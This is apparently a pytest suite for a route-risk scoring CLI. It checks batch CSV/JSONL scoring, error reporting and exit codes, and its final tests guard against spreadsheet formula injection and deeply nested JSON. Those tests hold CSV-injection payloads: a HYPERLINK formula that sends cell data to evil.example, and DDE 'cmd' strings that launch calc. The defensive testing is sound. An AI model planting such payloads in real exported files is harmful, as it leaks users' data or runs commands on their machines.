"""``routerisk score-batch`` as a subprocess against a real server: good rows scored exactly as
ScoreRoute scores them, bad rows (here and at the server) reported and kept, exit codes."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import grpc
import pytest
from google.protobuf.timestamp_pb2 import Timestamp

import seeds
from routerisk.v1 import route_risk_service_pb2 as pb
from routerisk.v1 import route_risk_service_pb2_grpc as pb_grpc
from tests.conftest import free_port
from tests.helpers.cli import run_cli

DEPARTURE = "2025-03-12T08:00:00Z"


def encode(points: list[tuple[float, float]], precision: int = 5) -> str:
    """Google's polyline encoding (test-side, independent of geodata.route's decoder)."""
    factor, out, previous = 10**precision, [], (0, 0)
    for lat, lng in points:
        current = (round(lat * factor), round(lng * factor))
        for delta in (current[0] - previous[0], current[1] - previous[1]):
            value = ~(delta << 1) if delta < 0 else delta << 1
            while value >= 0x20:
                out.append(chr((0x20 | (value & 0x1F)) + 63))
                value >>= 5
            out.append(chr(value + 63))
        previous = current
    return "".join(out)


def demo_polyline(name: str, precision: int = 5) -> str:
    doc = json.loads(Path(seeds.DEMO_ROUTES[name]).read_text())
    if doc["type"] == "FeatureCollection":
        doc = doc["features"][0]
    geometry = doc.get("geometry", doc)
    return encode([(lat, lng) for lng, lat, *_ in geometry["coordinates"]], precision)


# (id, polyline, departure, the start of the error every bad row must carry, or None)
ROWS = [
    ("MX-LRD", demo_polyline("mexico-city_laredo"), DEPARTURE, None),
    ("bad-poly", "not a polyline!", DEPARTURE, "polyline: invalid character"),
    ("TIJ", demo_polyline("tijuana_otay-mesa"), "2025-03-12T08:00:00-08:00", None),
    ("swapped", encode([(19.4, -99.1), (123.4, -99.0)]), DEPARTURE, "polyline: points[1]: latitude 123.4"),
    ("empty", "", DEPARTURE, "polyline: is empty"),
    ("ZLO-GDL", demo_polyline("manzanillo_guadalajara"), DEPARTURE, None),
    ("too-early", demo_polyline("ciudad-juarez_el-paso"), "1999-06-01T00:00:00Z", "departure: departure 1999"),
    ("JRZ-ELP", demo_polyline("ciudad-juarez_el-paso"), DEPARTURE, None),
]
CROSSINGS = {"MX-LRD": "Laredo", "TIJ": "Otay Mesa", "ZLO-GDL": "", "JRZ-ELP": "El Paso"}


def direct_scores(address: str, rows: list[tuple[str, str, str, str | None]]) -> dict[str, pb.ScoreRouteResponse]:
    """What a plain ScoreRoute answers for each good row."""
    answers = {}
    with grpc.insecure_channel(address) as channel:
        stub = pb_grpc.RouteRiskServiceStub(channel)
        for load_id, polyline, departure, error in rows:
            if error is None:
                stamp = Timestamp()
                stamp.FromJsonString(departure)
                request = pb.ScoreRouteRequest(route=pb.Route(encoded_polyline=polyline), departure_time=stamp)
                answers[load_id] = stub.ScoreRoute(request, timeout=30)
    return answers


def test_csv_batch_keeps_good_rows_and_reports_bad_ones(tmp_path, server_process):
    address, _, _ = server_process
    loads = tmp_path / "loads.csv"
    with loads.open("w", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "polyline", "departure", "customer"])
        writer.writerows([(i, p, d, "ACME, S.A.") for i, p, d, _ in ROWS])
    out = tmp_path / "scored.csv"
    result = run_cli(
        "score-batch", str(loads), "--departure-column", "departure", "--batch-size", "2", "--out", str(out),
        "--server", address,
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    # every bad row on stderr as file:line: field: message (line 1 is the header)
    reported = [line for line in result.stderr.splitlines() if line.startswith(f"{loads}:")]
    expected = [(n + 2, error) for n, (*_, error) in enumerate(ROWS) if error]
    assert len(reported) == len(expected)
    for line, (number, error) in zip(reported, expected, strict=True):
        assert line.startswith(f"{loads}:{number}: {error}"), line
    assert "4 of 8 row(s) scored; 4 bad" in result.stderr

    with out.open(newline="") as stream:
        scored = list(csv.DictReader(stream))
    assert list(scored[0]) == [
        "id", "score", "level", "coverage", "distance_km", "duration_h", "crossing", "wait_minutes",
        "wait_source", "error",
    ]  # fmt: skip
    assert [row["id"] for row in scored] == [r[0] for r in ROWS]  # input order, bad rows kept
    direct = direct_scores(address, ROWS)
    for row, (load_id, *_, error) in zip(scored, ROWS, strict=True):
        if error:
            assert row["error"].startswith(error) and row["score"] == "" and row["level"] == ""
            continue
        answer = direct[load_id]
        assert row["error"] == ""
        # a route mostly outside the layer's data (Tijuana → San Diego) has no score: blank, never 0
        not_covered = answer.level == pb.RISK_LEVEL_NOT_COVERED
        assert row["score"] == ("" if not_covered else f"{answer.score:.2f}")
        assert row["coverage"] == f"{answer.covered_fraction:.2f}"
        assert not_covered == (load_id == "TIJ")
        assert row["level"] == pb.RiskLevel.Name(answer.level).removeprefix("RISK_LEVEL_").lower()
        assert row["distance_km"] == f"{answer.distance_km:.1f}"
        assert row["duration_h"] == f"{answer.duration.ToTimedelta().total_seconds() / 3600:.2f}"
        assert row["crossing"] == CROSSINGS[load_id]
        if CROSSINGS[load_id]:
            assert row["wait_minutes"] == f"{answer.crossings[0].expected_wait_minutes:.0f}"
            assert row["wait_source"] == "default"
    assert float(next(r for r in scored if r["id"] == "MX-LRD")["score"]) > 50  # a real score, not zeros


def test_jsonl_batch_scores_exactly_as_score_does(tmp_path, server_process):
    address, _, _ = server_process
    loads = tmp_path / "loads.jsonl"
    geometry = json.loads(Path(seeds.DEMO_ROUTES["tijuana_otay-mesa"]).read_text())
    lines = [json.dumps({"load": i, "route": p, "at": d}) for i, p, d, _ in ROWS]
    lines.insert(2, "{not json")
    lines.append(json.dumps({"load": "geo", "route": geometry, "at": DEPARTURE}))
    loads.write_text("\n".join(lines) + "\n\n")
    result = run_cli(
        "score-batch", str(loads), "--route-column", "route", "--id-column", "load", "--departure-column", "at",
        "--format", "jsonl", "--server", address, "--quiet",
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert f"{loads}:3: row: not JSON" in result.stderr
    assert f"{loads}:5: route: points[1]: latitude 123.4" in result.stderr  # field named as in the file
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in records] == ["MX-LRD", "bad-poly", "", *(r[0] for r in ROWS[2:]), "geo"]
    by_id = {r["id"]: r for r in records}
    direct = direct_scores(address, ROWS)
    for load_id, answer in direct.items():
        # exact: JSONL keeps full precision; a route mostly outside the data's coverage has no score
        not_covered = answer.level == pb.RISK_LEVEL_NOT_COVERED
        assert by_id[load_id]["score"] == (None if not_covered else answer.score)
        assert by_id[load_id]["coverage"] == answer.covered_fraction
        assert by_id[load_id]["error"] is None
    assert by_id["geo"]["crossing"] == "Otay Mesa" and by_id["geo"]["error"] is None
    assert by_id["too-early"]["error"].startswith("at: departure 1999")
    # and the dispatcher's own check: routerisk score on the same polyline gives the same score
    one = run_cli("score", "--polyline", ROWS[0][1], "--departure", DEPARTURE, "--json", "--server", address)
    assert one.returncode == 0, one.stderr
    assert json.loads(one.stdout)["score"] == pytest.approx(by_id["MX-LRD"]["score"], abs=1e-6)


def test_all_good_rows_from_stdin_exit_0(server_process):
    address, _, _ = server_process
    text = "id,polyline\n" + "".join(f"{i},{p}\n" for i, p, _, e in ROWS if e is None)
    result = run_cli("score-batch", "-", "--departure", DEPARTURE, "--format", "jsonl", "--server", address, stdin=text)
    assert result.returncode == 0, result.stderr
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == ["MX-LRD", "TIJ", "ZLO-GDL", "JRZ-ELP"]
    assert "4 of 4 row(s) scored; 0 bad" in result.stderr


def test_file_without_the_route_column_is_rejected_whole(tmp_path, server_process):
    address, _, _ = server_process
    loads = tmp_path / "loads.csv"
    loads.write_text("id,route\n1,abc\n")
    result = run_cli("score-batch", str(loads), "--server", address)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.strip() == f"error: {loads}: no column 'polyline' (columns: id, route)"


def test_unreachable_server_exits_3(tmp_path):
    loads = tmp_path / "loads.csv"
    loads.write_text(f"id,polyline\n1,{ROWS[0][1]}\n")
    result = run_cli("score-batch", str(loads), "--server", f"127.0.0.1:{free_port()}", "--timeout", "3")
    assert result.returncode == 3
    assert "unreachable" in result.stderr and "0 row(s) written before this" in result.stderr


# ids a spreadsheet would run as formulas (OWASP "CSV injection"), and a route nested 1,000 deep
INJECTED_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DEEP_GEOJSON = '{"type": "LineString", "coordinates": ' + "[" * 1000 + "]" * 1000 + "}"


def test_csv_output_neutralises_formulas_and_a_nested_geojson_row_is_a_bad_row(tmp_path, server_process):
    address, _, _ = server_process
    good = demo_polyline("ciudad-juarez_el-paso")
    loads = tmp_path / "loads.csv"
    with loads.open("w", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "polyline"])
        writer.writerows([(load_id, good) for load_id in INJECTED_IDS])
        writer.writerow(["=deep", DEEP_GEOJSON])
        writer.writerow(["after", good])
    out = tmp_path / "scored.csv"
    result = run_cli("score-batch", str(loads), "--departure", DEPARTURE, "--out", str(out), "--server", address)
    assert result.returncode == 2, result.stderr  # the nested row is a bad row, not a crash
    assert "Traceback" not in result.stderr
    # line 9: the header, six ids (the one holding a carriage return takes two lines), then this row
    assert f"{loads}:9: polyline: GeoJSON nests 1001 levels deep" in result.stderr
    assert f"{len(INJECTED_IDS) + 1} of {len(INJECTED_IDS) + 2} row(s) scored; 1 bad" in result.stderr
    with out.open(newline="") as stream:
        scored = list(csv.DictReader(stream))
    # every id written, each with a leading quote: shown as the text it is, never run
    assert [row["id"] for row in scored] == [f"'{i}" for i in INJECTED_IDS] + ["'=deep", "after"]
    for row in scored:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert all(row["score"] and not row["error"] for row in scored if row["id"] != "'=deep")
    deep = next(row for row in scored if row["id"] == "'=deep")
    assert deep["score"] == "" and deep["error"].startswith("polyline: GeoJSON nests 1001 levels deep")


def test_jsonl_rows_nested_deep_are_bad_rows_and_the_others_are_scored(tmp_path, server_process):
    address, _, _ = server_process
    good = demo_polyline("ciudad-juarez_el-paso")
    loads = tmp_path / "loads.jsonl"
    lines = [
        json.dumps({"id": "=one", "polyline": good}),
        '{"id": "deep-row", "polyline": ' + "[" * 5000 + "]" * 5000 + "}",  # the row itself
        '{"id": "deep-route", "polyline": ' + DEEP_GEOJSON + "}",  # a GeoJSON object in JSONL
        json.dumps({"id": "deep-text", "polyline": DEEP_GEOJSON}),  # GeoJSON text in JSONL
        json.dumps({"id": "two", "polyline": good}),
    ]
    loads.write_text("\n".join(lines) + "\n")
    out = tmp_path / "scored.csv"
    result = run_cli("score-batch", str(loads), "--departure", DEPARTURE, "--out", str(out), "--server", address)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert f"{loads}:2: row: JSON nests 5001 levels deep, more than the limit of 64" in result.stderr
    assert f"{loads}:3: row: JSON nests 1002 levels deep" in result.stderr
    assert f"{loads}:4: polyline: GeoJSON nests 1001 levels deep" in result.stderr
    with out.open(newline="") as stream:
        scored = list(csv.DictReader(stream))
    assert [row["id"] for row in scored] == ["'=one", "", "", "deep-text", "two"]
    assert [bool(row["score"]) for row in scored] == [True, False, False, False, True]
